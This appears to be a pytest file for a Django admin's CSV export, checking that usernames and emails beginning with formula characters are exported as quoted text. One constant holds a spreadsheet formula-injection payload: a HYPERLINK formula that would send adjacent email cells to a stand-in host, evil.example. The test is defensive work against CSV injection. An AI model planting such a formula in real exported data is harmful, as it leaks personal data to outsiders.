"""The admin's CSV export opened in a spreadsheet: what requesters typed stays text."""

import csv
import io

import pytest
from django.contrib.auth.models import User
from django.test import Client
from django.urls import reverse

from optout.admin.group import maintainers_group_ensure
from tests.support.factories import RemovalRequestFactory
from tests.support.responses import streamed_text

pytestmark = pytest.mark.django_db
# A username that, run as a formula, sends the neighbouring cells (emails) to a stranger.
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&F2&F3,"Click for details")'


@pytest.fixture
def queue(client: Client) -> Client:
    user = User.objects.create_user("mia@example.org", "mia@example.org", "pw", is_staff=True)
    user.groups.add(maintainers_group_ensure())
    client.force_login(user)
    return client


def test_a_username_or_email_that_is_a_formula_is_exported_as_text(queue: Client) -> None:
    evil = RemovalRequestFactory(flickr_username=HYPERLINK, email="+1@example.org")
    RemovalRequestFactory(flickr_username="bees", email="bea@example.org")

    text = streamed_text(queue.get(reverse("admin:optout_removalrequest_export") + "?state=all"))

    rows = {row["public_id"]: row for row in csv.DictReader(io.StringIO(text, newline=""))}
    assert rows[evil.public_id]["flickr_username"] == "'" + HYPERLINK
    assert rows[evil.public_id]["email"] == "'+1@example.org"
    assert [row["email"] for row in rows.values() if row["public_id"] != evil.public_id] == [
        "bea@example.org"
    ]
    assert ',"=HYPERLINK' not in text and ",=HYPERLINK" not in text
